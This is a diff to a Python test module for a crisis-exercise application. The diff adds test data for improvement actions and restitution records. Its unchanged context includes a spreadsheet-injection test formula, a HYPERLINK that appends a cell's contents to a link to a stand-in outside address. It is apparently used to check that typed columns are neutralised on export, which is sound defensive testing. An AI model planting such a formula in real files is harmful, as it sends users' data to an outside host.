@@ -38,9 +38,11 @@ from app.services.sign_card import read_signatures, sign_cards
 from app.services.staff_cell import plan_rotation
 from app.services.write_scenario import change_scenario, copy_scenario
 from app.services.write_to_partner import LetterKind, Partner, write_to_partner
-from app.store import community, flashes, people
+from app.store import community, exercises, flashes, improvements, people, restitutions
 from app.store.database import Connection, Store
+from app.store.restitutions import Restitution
 from tests.drills.a_flash import composed as composed_flash
+from tests.exercise.an_improvement import an_action, an_ended_exercise
 
 FORMULAS = (
     '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
@@ -91,6 +93,8 @@ TYPED: dict[str, tuple[str, ...]] = {
     "own_scenario": ("title",),
     "laboratory_run": ("title",),
     "flash": ("title",),
+    "improvement": ("action", "finding", "cause", "owner", "organisation", "proof"),
+    "restitution": ("to_whom", "how"),
 }
 """Columns that hold what somebody typed, on a screen, in a file that was imported or behind a link."""
 
@@ -126,6 +130,7 @@ def a_full_crisis(store: Store) -> str:
             prepare_publication(COMMAND_LINE, store, event_id, audience, "x", "x")
     _template(store)
     _drills(store)
+    _improvements(store)
     return event_id
 
 
@@ -151,6 +156,17 @@ def _drills(store: Store) -> None:
     with store.reading() as conn:
         first = flashes.people_of(conn, "piege")[0].person_id
     answer_flash(volunteer(first, "x"), store, "piege", first, (0, 0, 0))
+
+
+def _improvements(store: Store) -> None:
+    """An exercise that has ended, an action it gave, what was told back of it."""
+    with store.transaction() as conn:
+        exercises.insert(conn, an_ended_exercise("piege", exercises.next_number(conn)))
+        improvements.insert(conn, an_action(exercise_id="piege"))
+        told = Restitution(
+            id="x", exercise_id="piege", on_day=paris_date(store.now()), to_whom="x", at=store.now(), actor_id="x"
+        )
+        restitutions.add(conn, told)
 
 
 def a_trap(store: Store) -> None:
